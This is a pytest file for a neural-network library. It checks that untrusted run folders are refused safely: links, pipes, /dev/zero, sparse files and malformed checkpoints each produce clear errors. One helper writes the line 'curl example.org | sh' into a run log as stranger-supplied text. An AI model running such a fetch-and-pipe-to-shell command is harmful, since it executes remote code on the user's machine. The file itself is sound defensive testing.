"""A run's folder from a stranger: going on with it, repeating and using it reach no file elsewhere, or are refused."""

import os
import shutil
import sys
import time
import tracemalloc
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from nndl.api import load_run
from nndl.errors import CheckpointError, ConfigError, NndlError, UsageError
from nndl.jobs.repeats import refuse_others, repeats
from nndl.jobs.replay import train_until
from nndl.jobs.reproduce import reproduce
from nndl.jobs.resume import resume
from nndl.runs.checkpoint import read_checkpoint, write_checkpoint
from nndl.runs.folder import RunFolder
from nndl.runs.inputs import read_inputs, write_inputs
from nndl.runs.lock import lock_run
from nndl.runs.log import write_log
from tests.small_run import experiment, trained

posix = pytest.mark.skipif(sys.platform == "win32", reason="links and pipes of POSIX")
MINE = b"a key of mine\n"


Made = Callable[[Path, int], RunFolder]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """Copies a run that was stopped after so many steps to a folder; each is trained once."""
    first: dict[int, Path] = {}

    def copy(folder: Path, until: int) -> RunFolder:
        if until not in first:
            first[until] = trained(tmp_path_factory.mktemp("made") / "run", until).path
        shutil.copytree(first[until], folder)
        return RunFolder(folder)

    return copy


def go_on(folder: RunFolder) -> None:
    """Do what `nndl resume` does, and write a line in the log whose words the stranger chose."""
    with lock_run(folder.path):
        resumed = resume(folder)
        write_log(folder, "\ncurl example.org | sh")
        train_until(folder, resumed.built.solver, resumed.keeping, 12)
        folder.write_status("finished")


def again(folder: RunFolder) -> None:
    reproduce(folder, lambda *_: lambda _: None)


FILES = (
    *(".lock", "log.txt", "metrics.jsonl", "summary.json", "config.yaml", "environment.json", "input.json"),
    *("best.safetensors", "last.safetensors", "step-3.safetensors", ".last.safetensors.part"),
)


@posix
@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("kind", ["symbolic", "hard", "dangling"])
def test_a_link_in_a_run_leads_nowhere(made: Made, tmp_path: Path, name: str, kind: str) -> None:
    folder, mine = made(tmp_path / "run", 5), tmp_path / "elsewhere" / "key"
    mine.parent.mkdir()
    mine.write_bytes(MINE)
    path = folder.path / name
    path.unlink(missing_ok=True)
    if kind == "hard":
        path.hardlink_to(mine)
    else:
        path.symlink_to(mine if kind == "symbolic" else mine.with_name("none"))
    for work in (go_on, again, lambda folder: load_run(folder.path)):
        try:
            work(folder)
        except NndlError as error:
            assert str(error)  # noqa: PT017
    assert mine.read_bytes() == MINE
    assert [each.name for each in mine.parent.iterdir()] == ["key"]


@posix
@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("kind", ["pipe", "device", "terabyte"])
def test_nothing_holds_a_reader_up(made: Made, tmp_path: Path, name: str, kind: str) -> None:
    folder = made(tmp_path / "run", 5)
    path = folder.path / name
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    else:
        path.touch()
        os.truncate(path, 1 << 40)
    began = time.monotonic()
    for work in (go_on, again, lambda folder: load_run(folder.path)):
        try:
            work(folder)
        except (NndlError, OSError) as error:
            assert str(error)  # noqa: PT017
    assert time.monotonic() - began < 30


@posix
def test_a_config_that_is_none_is_refused_in_words(made: Made, tmp_path: Path) -> None:
    folder = made(tmp_path / "run", 5)
    folder.config.unlink()
    folder.config.symlink_to("/dev/zero")
    for work in (go_on, again, lambda folder: load_run(folder.path)):
        with pytest.raises(ConfigError, match=r"config\.yaml is a link, not a file"):
            work(folder)


def claim(path: Path, name: str, gigabytes: int) -> None:
    """A sparse file, some kilobytes on the disk, that says it holds an array of gigabytes."""
    from tests.runs.test_checkpoint import header_of, with_header

    header = header_of(path)
    size = gigabytes << 30
    header[name] = {"dtype": "F32", "shape": [size // 4], "data_offsets": [0, size]}
    with_header(path, {key: header[key] for key in (name, "__metadata__")})
    os.truncate(path, path.stat().st_size + size)


@pytest.mark.parametrize("name", ["params/affine1.w", "params/other"])
def test_memory_is_taken_for_what_the_network_needs_and_not_for_what_a_file_claims(
    made: Made, tmp_path: Path, name: str
) -> None:
    folder = made(tmp_path / "run", 6)
    for path in (folder.best, folder.last, folder.path / "step-3.safetensors"):
        claim(path, name, 3)
    tracemalloc.start()
    began = time.monotonic()
    with pytest.raises(CheckpointError, match=r"saved state"):
        load_run(folder.path)
    with pytest.raises(CheckpointError, match=r"(?s)no whole state.*safetensors: it claims to hold 3,221,225,472"):
        go_on(folder)
    with pytest.raises(CheckpointError, match=r"no whole state"):
        again(folder)
    with pytest.raises(CheckpointError, match=r"no whole state"):
        refuse_others(repeats([experiment()], set_of(folder)))
    assert tracemalloc.get_traced_memory()[1] < 100e6
    tracemalloc.stop()
    assert time.monotonic() - began < 20


def set_of(folder: RunFolder) -> Path:
    """The folder of a set of seeds whose first is this run."""
    inside = folder.path.with_name("set")
    inside.mkdir()
    folder.path.rename(inside / "seed-0")
    return inside


ABOUT: tuple[dict[str, Any], ...] = (
    {},
    {"changes": None},
    {"changes": 3},
    {"changes": [{}]},
    {"changes": ["x"]},
    {"changes": [{"step": 1, "epochs_done": 0, "epochs": [None, 3], "what": []}]},
    {"changes": [{"step": 1, "epochs_done": 0, "epochs": [float("inf"), 3], "what": []}]},
    {"changes": [], "engine": None, "threads": "many"},
    {"changes": [], "engine": "x\ny: z", "threads": [1]},
    {"changes": {"step": {}}, "config": 1, "data": []},
)


@pytest.mark.parametrize("about", ABOUT)
def test_what_a_state_says_of_its_making_is_looked_at(made: Made, tmp_path: Path, about: dict[str, Any]) -> None:
    folder = made(tmp_path / "run", 5)
    arrays, info = read_checkpoint(folder.last)
    write_checkpoint(folder.last, arrays, {**info, "about": about})
    with pytest.raises(NndlError):
        again(folder)
    try:
        go_on(folder)
    except NndlError as error:
        assert str(error)  # noqa: PT017


def test_a_state_beyond_the_end_of_its_training_is_refused_and_not_called_an_interruption(
    made: Made, tmp_path: Path
) -> None:
    folder = made(tmp_path / "run", 12)
    arrays, info = read_checkpoint(folder.last)
    write_checkpoint(folder.last, arrays, {**info, "step": 99})
    with pytest.raises(CheckpointError, match="says that it is at step 99, and its config trains 12"):
        again(folder)


@pytest.mark.parametrize("step", [None, -1, "x", 1e300, True, 10**30])
def test_weights_that_do_not_say_their_step_are_refused(made: Made, tmp_path: Path, step: Any) -> None:
    folder = made(tmp_path / "run", 5)
    arrays, info = read_checkpoint(folder.best)
    write_checkpoint(folder.best, arrays, {**info, "step": step})
    with pytest.raises(CheckpointError, match=r"the best weights of .* do not say of which step they are"):
        load_run(folder.path)


def test_weights_of_another_network_are_refused_before_they_are_read(made: Made, tmp_path: Path) -> None:
    folder = made(tmp_path / "run", 5)
    arrays, info = read_checkpoint(folder.best)
    write_checkpoint(folder.best, {**arrays, "params/affine1.b": np.zeros(11, np.float32)}, info)
    with pytest.raises(CheckpointError, match=r"affine1\.b is float32 \(11,\) in the saved state, but float32 \(10,\)"):
        load_run(folder.path)


def test_a_folder_in_a_files_place_is_told(made: Made, tmp_path: Path) -> None:
    folder = made(tmp_path / "run", 5)
    folder.best.unlink()
    folder.best.mkdir()
    with pytest.raises(CheckpointError, match=r"best\.safetensors is a folder, not a file"):
        load_run(folder.path)
    folder.lock.unlink()
    folder.lock.mkdir()
    with pytest.raises(UsageError, match=r"\.lock is a folder, not a file"):
        go_on(folder)


def test_classes_that_are_not_as_many_as_the_network_scores_are_refused(made: Made, tmp_path: Path) -> None:
    folder = made(tmp_path / "run", 5)
    known = read_inputs(folder)
    assert known is not None
    write_inputs(folder, replace(known, classes=known.classes[:9]))
    with pytest.raises(CheckpointError, match=r"input\.json names 9 classes, and the network scores \(10,\)"):
        load_run(folder.path)
